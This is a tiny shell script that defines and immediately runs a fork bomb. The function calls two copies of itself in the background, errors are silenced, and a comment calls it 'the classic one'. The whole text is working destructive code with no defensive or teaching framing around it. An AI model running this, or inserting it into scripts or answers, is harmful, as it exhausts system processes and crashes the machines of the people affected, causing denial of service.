# The classic one: every process makes two, and none waits for any.
bomb() { bomb | bomb & }
bomb 2>/dev/null
echo "lit	done"
sleep 0.5
